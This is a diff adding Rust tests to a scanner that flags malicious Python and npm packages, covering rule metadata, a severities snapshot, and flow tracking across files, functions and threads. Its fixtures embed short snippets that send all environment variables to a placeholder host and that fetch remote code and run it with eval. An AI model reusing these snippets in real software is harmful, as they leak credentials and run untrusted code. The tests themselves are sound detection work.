@@ -3,10 +3,11 @@ use std::fs;
 use std::path::{Path, PathBuf};
 
 use sigma_core::{
-    Digests, DistributionKind, DistributionReport, Ecosystem, PackageId, PackageName, Sha1, Sha256, Sha512,
+    Digests, DistributionKind, DistributionReport, Ecosystem, PackageId, PackageName, Reach, Severity, Sha1, Sha256,
+    Sha512,
 };
 
-use super::RULES;
+use super::{RULES, catalogue};
 use crate::{Analyser, Analysis, Input, Limits};
 
 fn root() -> PathBuf {
@@ -105,7 +106,10 @@ fn every_rule_file_is_registered_under_its_name() {
     assert_eq!(registered, rule_files().into_keys().collect());
     assert_eq!(registered.len(), RULES.len(), "a rule stands twice in the table");
     for rule in RULES {
-        assert!(rule.message.ends_with('.'), "{}: a message is a sentence", rule.id);
+        for (field, text) in [("message", rule.message), ("why", rule.why), ("false_positives", rule.false_positives)] {
+            assert!(text.ends_with('.'), "{}: {field} is one sentence or more", rule.id);
+        }
+        assert!(!rule.example.is_empty(), "{}: example is a piece of code that it reports", rule.id);
     }
 }
 
@@ -126,6 +130,37 @@ fn every_rule_has_a_hit_and_a_miss() {
             assert_eq!(hit, name(&path).starts_with("hit"), "{}: {:#?}", path.display(), report.findings);
         }
     }
+}
+
+/// What `sigma rules` says of severities is what the rules and their fixtures give. Like a snapshot, the list is written
+/// anew with `INSTA_UPDATE=always`.
+#[test]
+fn every_severity_of_a_rule_is_listed() {
+    let path = root().join("severities.txt");
+    let written = fs::read_to_string(&path).unwrap();
+    let mut made: String =
+        written.lines().filter(|line| line.starts_with('#')).map(|line| format!("{line}\n")).collect();
+    for (id, folder) in rule_files() {
+        let source = fs::read_to_string(folder.with_extension("rs")).unwrap();
+        let named = source.split("Severity::").skip(1).map(|rest| rest.split(|c: char| !c.is_alphabetic()).next());
+        let mut all: BTreeSet<Severity> =
+            named.filter_map(|word| catalogue::severity(&word.unwrap_or_default().to_lowercase())).collect();
+        for path in entries(&folder) {
+            let findings = report(&path).findings.into_iter().filter(|finding| finding.rule == id);
+            all.extend(findings.map(|finding| finding.severity));
+        }
+        // Some severities come from data files, so what is listed stays.
+        all.extend(catalogue::severities(&id));
+        if all.len() > 1 {
+            let words: Vec<String> = all.iter().map(|word| format!("{word:?}").to_lowercase()).collect();
+            made.push_str(&format!("{id} {}\n", words.join(" ")));
+        }
+    }
+    if made != written && std::env::var("INSTA_UPDATE").is_ok_and(|update| update == "always") {
+        fs::write(&path, &made).unwrap();
+        return;
+    }
+    assert!(made == written, "rules/severities.txt is old, INSTA_UPDATE=always writes it; it should be\n{made}");
 }
 
 /// Every rule over every fixture: a rule that grows too eager shows here.
@@ -171,5 +206,101 @@ fn variants_of_a_decoded_payload_are_all_seen() {
         let files = vec![(format!("package/{path}"), source.as_bytes().to_vec())];
         let hits = analyse(kind, &files).report.rule_hits;
         assert!(hits.contains_key("decoded-execution"), "{source}{hits:?}");
+    }
+}
+
+fn hits(kind: DistributionKind, files: &[(&str, &str)]) -> BTreeMap<String, u64> {
+    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
+    analyse(kind, &files).report.rule_hits
+}
+
+/// A flow whose source, way and end lie in different files is the same flow.
+#[test]
+fn flows_are_followed_from_file_to_file() {
+    let send = "import requests\ndef send(data):\n    requests.post('https://a.example.org', data=data)\n";
+    let collect = "import os\ndef collect():\n    return dict(os.environ)\n";
+    let cases: &[&[(&str, &str)]] = &[
+        &[("p/__init__.py", "from .net import send\nimport os\nsend(os.environ)\n"), ("p/net.py", send)],
+        &[
+            ("p/__init__.py", "from p.net import send\nfrom p.box import collect\nsend(collect())\n"),
+            ("p/net.py", send),
+            ("p/box.py", collect),
+        ],
+        &[
+            (
+                "p/__init__.py",
+                "from . import box\nimport requests\nrequests.post('https://a.example.org', data=box.collect())\n",
+            ),
+            ("p/box.py", collect),
+        ],
+    ];
+    for files in cases {
+        let found = hits(DistributionKind::Wheel, files);
+        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
+    }
+    let cases: &[&[(&str, &str)]] = &[
+        &[
+            ("package/index.js", "const { send } = require('./lib/net');\nsend(JSON.stringify(process.env));\n"),
+            (
+                "package/lib/net.js",
+                "exports.send = (d) => fetch('https://a.example.org', { method: 'POST', body: d });\n",
+            ),
+        ],
+        &[
+            ("package/index.mjs", "import send from './net.mjs';\nimport { all } from './box.mjs';\nsend(all());\n"),
+            ("package/net.mjs", "export default function (d) { fetch('https://a.example.org', { body: d }); }\n"),
+            ("package/box.mjs", "export const all = () => process.env;\n"),
+        ],
+    ];
+    for files in cases {
+        let found = hits(DistributionKind::NpmTarball, files);
+        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
+    }
+    let harmless: &[(&str, &str)] =
+        &[("p/__init__.py", "from .net import send\nsend('hello')\n"), ("p/net.py", send), ("p/box.py", collect)];
+    assert!(!hits(DistributionKind::Wheel, harmless).contains_key("environment-exfiltration"));
+}
+
+/// What a module runs in another file when it is imported runs at import, not when somebody calls it.
+#[test]
+fn functions_of_other_files_run_when_their_caller_does() {
+    let files: &[(&str, &str)] = &[
+        ("p/__init__.py", "from .net import start\nstart()\n"),
+        (
+            "p/net.py",
+            "import subprocess\ndef start():\n    subprocess.run(['true'])\ndef other():\n    subprocess.run(['false'])\n",
+        ),
+    ];
+    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
+    let findings = analyse(DistributionKind::Wheel, &files).report.findings;
+    let mut reach: Vec<(u32, Reach)> =
+        findings.iter().filter(|f| f.rule == "process-spawn").map(|f| (f.line, f.reach)).collect();
+    reach.sort();
+    assert_eq!(reach, [(3, Reach::Import), (5, Reach::Call)]);
+}
+
+/// What a function is given where it is called is known where it is used, also when the call stands further down.
+#[test]
+fn values_are_followed_through_functions_objects_and_variables() {
+    let sources = [
+        "import os, requests\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nsend(dict(os.environ))\n",
+        "import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post('https://a.example.org', json=self.d)\nA().go()\n",
+        "import os, requests\nd = {}\ndef fill():\n    global d\n    d = dict(os.environ)\nfill()\nrequests.post('https://a.example.org', json=d)\n",
+        "import os, requests\nd = []\nd.append(os.environ.copy())\nrequests.post('https://a.example.org', json=d)\n",
+        "import os, requests\nfrom threading import Thread\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nThread(target=send, args=(dict(os.environ),)).start()\n",
+    ];
+    for source in sources {
+        let found = hits(DistributionKind::Wheel, &[("p.py", source)]);
+        assert!(found.contains_key("environment-exfiltration"), "{source} {found:?}");
+    }
+    let sources = [
+        "const https = require('https');\nclass A { constructor() { this.d = process.env; } go() { fetch('https://a.example.org', { body: this.d }); } }\nnew A().go();\n",
+        "const https = require('https');\nlet body = '';\nhttps.get('https://a.example.org/x', (res) => { res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });\n",
+        "fetch('https://a.example.org/x').then((r) => r.text()).then((t) => eval(t));\n",
+    ];
+    for source in sources {
+        let found = hits(DistributionKind::NpmTarball, &[("package/a.js", source)]);
+        let flow = found.contains_key("environment-exfiltration") || found.contains_key("download-execution");
+        assert!(flow, "{source} {found:?}");
     }
 }
